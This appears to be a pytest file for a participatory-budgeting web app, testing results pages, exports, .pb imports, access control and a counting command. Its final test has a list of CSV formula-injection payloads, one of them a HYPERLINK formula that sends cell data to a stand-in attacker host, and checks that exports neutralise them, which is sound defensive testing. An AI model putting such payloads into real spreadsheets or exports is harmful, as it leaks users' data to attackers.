"""Results pages, exports, imports and the count command, on a small election counted by hand."""

import csv
import io
import json

import pytest
from sqlalchemy import func, select

from pb.counting.pabulib import parse_pb
from pb.counting_cli import count
from pb.extensions import db
from pb.models import (
    Ballot,
    Beneficiary,
    Channel,
    Consultation,
    CountedResult,
    Phase,
    Proposal,
    ProposalBeneficiary,
)
from pb.results.counting import count_and_store
from tests import factories


def add_ballot(consultation, *proposals):
    ballot = Ballot(consultation_id=consultation.id, channel=Channel.ONLINE)
    ballot.choices = {p.id: 1 for p in proposals}
    db.session.add(ballot)


@pytest.fixture
def counted(world):
    """Budget 1,000,000: 400k (5 votes), 300k (4), 250k (3), 100k (1). Greedy funds the first
    three (950,000) and skips the last, which no longer fits."""
    c = world.consultation
    p1, p2, p3, p4 = factories.open_voting(c)
    for _ in range(4):
        add_ballot(c, p1, p2)
    add_ballot(c, p1, p3)
    add_ballot(c, p3)
    add_ballot(c, p3, p4)
    c.phase = Phase.CLOSED
    count_and_store(c)  # as closing voting does
    db.session.commit()
    return c, (p1, p2, p3, p4)


def publish(officer_client, consultation):
    response = officer_client.post(
        f"/c/{consultation.id}/phase",
        data={"direction": "advance", "expected": "closed", "confirm": "yes"},
    )
    assert response.status_code == 302
    db.session.refresh(consultation)
    assert consultation.phase == Phase.PUBLISHED


def test_results_are_counted_at_publication_and_shown_to_everyone(app, officer_client, counted):
    consultation, (p1, p2, p3, p4) = counted
    assert app.test_client().get(f"/c/{consultation.id}/results").status_code == 403
    publish(officer_client, consultation)
    stored = db.session.scalars(select(CountedResult)).one()
    assert stored.total_cost == 950_000 and stored.ballots == 7
    page = app.test_client().get(f"/c/{consultation.id}/results").get_data(as_text=True)
    assert "3 funded proposals" in page
    assert "950,000\xa0som" in page and "50,000\xa0som" in page
    funded_part, unfunded_part = page.split("Not funded", 1)
    for p in (p1, p2, p3):
        assert p.title in funded_part
    assert (
        p4.title in unfunded_part
        and "When its turn came only 50,000\xa0som was left" in unfunded_part
    )
    assert "<svg" in page


def test_council_sees_results_before_publication(council_client, counted):
    consultation, _ = counted
    page = council_client.get(f"/c/{consultation.id}/results").get_data(as_text=True)
    assert "Not yet published" in page and "3 funded proposals" in page


def test_results_are_counted_once_and_then_read(council_client, counted, count_queries):
    """Once voting has closed the ballots cannot change: pages read the result stored at close,
    do not even look at the ballots (a results page of 100,000 ballots reads one row), and
    write nothing."""
    consultation, _ = counted
    first = db.session.scalars(select(CountedResult)).one().counted_at
    with count_queries() as counter:
        assert council_client.get(f"/c/{consultation.id}/results").status_code == 200
        assert council_client.get(f"/c/{consultation.id}/protocol").status_code == 200
    assert not [s for s in counter.statements if "ballots.choices" in s]
    assert not [s for s in counter.statements if s.split()[0] in ("INSERT", "UPDATE", "DELETE")]
    db.session.expire_all()
    assert db.session.scalars(select(CountedResult)).one().counted_at == first


def test_equal_shares_explains_each_proposal(council_client, counted):
    consultation, _ = counted
    consultation.counting_rule = "equal-shares"
    db.session.commit()
    page = council_client.get(f"/c/{consultation.id}/results").get_data(as_text=True)
    assert "Method of Equal Shares" in page
    assert "equal shares" in page.lower()


def test_results_before_close_are_refused(council_client, world):
    factories.open_voting(world.consultation)
    assert council_client.get(f"/c/{world.consultation.id}/results").status_code == 403
    assert council_client.get(f"/c/{world.consultation.id}/export/ballots.pb").status_code == 403


def test_exports_csv_xlsx_and_pb(council_client, counted):
    consultation, (p1, *_rest) = counted
    response = council_client.get(f"/c/{consultation.id}/export/results.csv")
    assert response.status_code == 200 and "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][1] == "Proposal" and len(rows) == 5
    xlsx = council_client.get(f"/c/{consultation.id}/export/participation.xlsx")
    assert xlsx.status_code == 200 and xlsx.data[:2] == b"PK"
    pb = council_client.get(f"/c/{consultation.id}/export/ballots.pb").get_data(as_text=True)
    election = parse_pb(pb)
    assert election.budget == 1_000_000 and len(election.ballots) == 7
    assert council_client.get(f"/c/{consultation.id}/export/secrets.csv").status_code == 404
    assert council_client.get(f"/c/{consultation.id}/export/results.exe").status_code == 404


def test_officer_imports_a_pb_file_as_a_closed_consultation(officer_client, counted, world):
    consultation, (p1, *_others) = counted
    p1.beneficiary_rows = [
        ProposalBeneficiary(group=Beneficiary.WOMEN),
        ProposalBeneficiary(group=Beneficiary.YOUTH),
    ]
    db.session.commit()
    pb = officer_client.get(f"/c/{consultation.id}/export/ballots.pb").get_data(as_text=True)
    before = db.session.scalar(select(func.count()).select_from(Consultation))
    response = officer_client.post(
        "/m/ak-suu/import",
        data={"file": (io.BytesIO(pb.encode()), "past.pb"), "village_id": str(world.village.id)},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    imported = db.session.scalars(select(Consultation).order_by(Consultation.id.desc())).first()
    assert db.session.scalar(select(func.count()).select_from(Consultation)) == before + 1
    assert imported.phase == Phase.CLOSED and imported.budget == 1_000_000
    assert db.session.scalar(select(func.count()).where(Ballot.consultation_id == imported.id)) == 7
    page = officer_client.get(f"/c/{imported.id}/results").get_data(as_text=True)
    assert "950,000\xa0som" in page
    groups = {
        p.title: {b.value for b in p.beneficiaries}
        for p in db.session.scalars(select(Proposal).where(Proposal.consultation_id == imported.id))
    }
    assert groups[p1.title] == {"women", "youth"} and groups["Project 2"] == {"everyone"}


@pytest.mark.parametrize(
    "content",
    [b"not a pb file", b"META\nkey;value\nbudget;x\n", "\u00ff".encode("latin-1")],
)
def test_malformed_imports_get_a_message_and_save_nothing(officer_client, world, content):
    before = db.session.scalar(select(func.count()).select_from(Proposal))
    response = officer_client.post(
        "/m/ak-suu/import",
        data={"file": (io.BytesIO(content), "bad.pb"), "village_id": str(world.village.id)},
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    # The import's job page says what is wrong, and that nothing was saved.
    assert response.status_code == 200
    assert b"flash-error" in response.data and b"This work could not be done" in response.data
    assert b"Nothing of it was saved." in response.data
    assert db.session.scalar(select(func.count()).select_from(Proposal)) == before


def test_an_import_holding_a_nul_character_is_refused(officer_client, counted, world):
    # Valid otherwise; PostgreSQL's text cannot hold a NUL, so it once ended in a 500 there.
    consultation, _ = counted
    pb = officer_client.get(f"/c/{consultation.id}/export/ballots.pb").get_data(as_text=True)
    before = db.session.scalar(select(func.count()).select_from(Consultation))
    response = officer_client.post(
        "/m/ak-suu/import",
        data={
            "file": (io.BytesIO(pb.replace("Project 2", "Proj\x00ect 2").encode()), "past.pb"),
            "village_id": str(world.village.id),
        },
        content_type="multipart/form-data",
        follow_redirects=True,
    )
    assert response.status_code == 200 and b"not UTF-8 text" in response.data
    assert db.session.scalar(select(func.count()).select_from(Consultation)) == before


def test_imports_are_for_officers(resident_client, council_client, world):
    for client in (resident_client, council_client):
        response = client.post(
            "/m/ak-suu/import",
            data={"file": (io.BytesIO(b"x"), "x.pb"), "village_id": str(world.village.id)},
            content_type="multipart/form-data",
        )
        assert response.status_code == 403


def test_protocol_is_printable_and_in_the_readers_language(council_client, counted):
    consultation, _ = counted
    council_client.post("/language", data={"locale": "ru", "next": "/"})
    page = council_client.get(f"/c/{consultation.id}/protocol").get_data(as_text=True)
    assert 'lang="ru"' in page and "Протокол" in page
    assert page.count('class="line') >= 4


def test_count_command(runner, tmp_path, counted, council_client):
    consultation, (p1, p2, p3, p4) = counted
    path = tmp_path / "election.pb"
    path.write_text(
        council_client.get(f"/c/{consultation.id}/export/ballots.pb").get_data(as_text=True)
    )
    result = runner.invoke(count, [str(path), "--rule", "greedy"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output) == {
        "rule": "greedy",
        "funded": [str(p1.id), str(p2.id), str(p3.id)],
        "cost": 950_000,
    }
    bad = tmp_path / "bad.pb"
    bad.write_text("nonsense")
    assert runner.invoke(count, [str(bad), "--rule", "greedy"]).exit_code != 0
    assert runner.invoke(count, [str(tmp_path / "missing.pb"), "--rule", "greedy"]).exit_code != 0


ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1+1)", "@cmd", "-2+3"]


def test_csv_exports_never_start_a_formula(council_client, counted):
    """Titles are written by residents: in a CSV file, a cell a spreadsheet would run as a
    formula is made text (an apostrophe before it); numbers stay numbers."""
    consultation, proposals = counted
    for proposal, title in zip(proposals, ATTACKS, strict=True):
        proposal.title = title
    db.session.commit()
    response = council_client.get(f"/c/{consultation.id}/export/results.csv")
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    titles = {row[1] for row in rows[1:]}
    assert titles == {"'" + title for title in ATTACKS}
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(row[4].isdigit() and row[5].isdigit() for row in rows[1:])  # votes, cost
